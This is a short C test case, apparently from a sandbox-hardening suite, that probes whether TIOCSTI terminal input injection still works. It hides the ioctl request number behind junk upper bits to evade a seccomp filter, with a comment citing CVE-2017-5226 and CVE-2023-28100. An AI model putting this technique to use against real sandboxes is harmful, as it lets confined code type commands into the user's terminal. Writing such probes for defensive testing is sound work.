#include "attack.h"
// The request with rubbish in the upper half, which the kernel drops (CVE-2017-5226's second life, CVE-2023-28100's kind).
ATTACK(.judge = "tty:pushed", .needs = "tty") {
  for (const char *c = path(arg("marker"), "\n"); *c; c++)
    if (syscall(SYS_ioctl, 0, 0xbeef00000000UL | TIOCSTI, c)) { note("TIOCSTI"); break; }
  hold();
}
